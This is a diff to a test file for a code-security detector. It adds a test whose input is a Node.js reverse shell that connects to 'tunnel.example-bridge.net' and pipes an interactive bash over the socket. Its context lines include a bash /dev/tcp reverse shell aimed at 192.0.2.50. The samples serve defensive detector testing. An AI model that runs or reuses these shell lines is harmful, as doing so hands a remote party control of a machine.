@@ -92,6 +92,16 @@ describe('round 2: network precision', () => {
     expect(e1?.rationale).not.toContain('7000,');
   });
 
+  it('names the host of a node reverse shell opened with net.connect({ host, port })', async () => {
+    const hits = await runAll(
+      codeDetectors,
+      'scripts/bridge.js',
+      "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = net.connect({ port: 9001, host: 'tunnel.example-bridge.net' }, () => {\n  const sh = spawn('/bin/bash', ['-i']);\n  c.pipe(sh.stdin);\n  sh.stdout.pipe(c);\n});\n",
+    );
+    const channel = hits.find((h) => h.rule === 'code.remote-shell-channel');
+    expect(channel?.rationale).toContain('tunnel.example-bridge.net');
+  });
+
   it('discounts a reverse shell quoted in a reference document nothing runs', async () => {
     const text = '# Notes\n\n```bash\nbash -i >& /dev/tcp/192.0.2.50/4444 0>&1\n```\n';
     const hits = await runAll(codeDetectors, 'references/payloads.md', text, { reachable: false });
